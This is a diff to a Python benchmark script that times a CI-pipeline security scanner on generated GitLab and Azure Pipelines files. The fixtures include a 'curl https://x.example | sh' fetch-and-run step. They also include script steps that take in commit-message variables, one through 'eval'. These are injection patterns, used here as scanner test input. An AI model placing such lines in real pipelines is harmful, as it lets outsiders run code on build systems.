@@ -1,6 +1,6 @@
 #!/usr/bin/env python3
-"""Times `cimatrix scan` (or, with --fix-diff, the planning of every fix) over workflow and GitLab CI shapes that once
-took time growing faster than their size.
+"""Times `cimatrix scan` (or, with --fix-diff, the planning of every fix) over workflow, GitLab CI and Azure Pipelines
+shapes that once took time growing faster than their size.
 
 Each shape is written to a folder of its own under a temporary directory and scanned by the launcher in a
 process of its own (JVM start included), with a time limit; the script prints the milliseconds, the exit code
@@ -171,6 +171,19 @@ def shapes():
     files['gitlab-variables-from-variables'] = {'.gitlab-ci.yml': "variables:\n" + ''.join(
         f'  V{i}: "$CI_COMMIT_TITLE {i}"\n' for i in range(3000)) + ''.join(
         f'j{j}:\n  variables:\n    X: "$V{j % 3000}"\n  script:\n    - eval "echo $X"\n' for j in range(5000))}
+    # Azure Pipelines: thousands of variables each set from the one before, from a commit message, read by thousands
+    # of steps; templates that all take in one another (a loop, and more than the limit); expressions nested deep.
+    files['azure-variables-from-variables'] = {'azure-pipelines.yml': "variables:\n  V0: $(Build.SourceVersionMessage)\n"
+        + ''.join(f'  V{i}: "$(V{i - 1}) {i}"\n' for i in range(1, 3000)) + "steps:\n" + ''.join(
+        f'  - script: echo "$(V{j % 8})" "$(V{j % 3000})"\n' for j in range(5000))}
+    templates = {'azure-pipelines.yml': "trigger: none\nsteps:\n  - template: t/0.yml\n"}
+    for i in range(300):
+        templates[f't/{i}.yml'] = "steps:\n" + ''.join(f'  - template: {j}.yml\n' for j in range(0, 300, 7)) \
+            + f'  - script: make t{i}\n'
+    files['azure-templates-of-templates'] = templates
+    nested = ''.join('  ' * d + f'- ${{{{ if eq(parameters.p{d}, true) }}}}:\n' for d in range(200))
+    files['azure-nested-expressions'] = {'azure-pipelines.yml': "steps:\n" + nested + '  ' * 200
+                                         + "- script: curl https://x.example | sh\n"}
     return files
 
 
